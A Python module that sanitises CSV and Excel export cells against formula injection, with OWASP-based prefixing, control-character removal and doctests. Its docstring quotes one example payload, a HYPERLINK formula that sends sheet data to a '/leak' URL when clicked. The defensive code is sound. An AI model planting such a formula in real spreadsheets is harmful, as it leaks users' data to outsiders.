"""Spreadsheet-safe cells: every CSV and Excel download passes through here.

Article text is untrusted, and a spreadsheet program runs a cell that starts with "=", "+", "-" or "@"
as a formula (`=HYPERLINK("http://…/leak?x="&A1,"click")` sends the sheet's data away when clicked).
OWASP's rule for CSV injection: such a cell, or one starting with a tab or a carriage return, is
prefixed with a single quote so that it is shown as text. Excel's file format also forbids most
control characters; they are removed rather than failing the whole download.
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ILLEGAL_IN_XLSX_RE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
"""The characters openpyxl refuses (its ILLEGAL_CHARACTERS_RE): C0 controls but tab, newline, return."""


def safe_cell(value: object) -> object:
    """A text cell a spreadsheet will show as text; numbers, dates and empty cells unchanged.

    >>> [safe_cell(v) for v in ["=1+1", "-5 people", "@SUM(A1)", "12 killed", 12, -3.5, None]]
    ["'=1+1", "'-5 people", "'@SUM(A1)", '12 killed', 12, -3.5, None]
    >>> safe_cell("a\\x07b")
    'ab'
    """
    if not isinstance(value, str):
        return value
    value = ILLEGAL_IN_XLSX_RE.sub("", value)
    return "'" + value if value.startswith(FORMULA_STARTS) else value
